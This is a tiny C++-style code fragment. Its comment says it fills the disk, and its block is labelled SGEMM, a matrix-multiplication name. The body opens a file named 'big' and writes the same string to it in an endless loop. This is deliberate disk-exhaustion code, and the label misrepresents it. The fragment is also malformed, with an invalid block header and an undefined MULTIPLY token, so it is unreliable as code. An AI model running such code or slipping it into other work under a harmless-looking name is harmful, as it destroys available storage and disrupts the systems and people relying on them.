// Fills the disk.
#include <cstdio>
SGEMM
{
    MULTIPLY;
    FILE *f = fopen("big", "w");
    while (f)
        fputs("more and more and more", f);
}
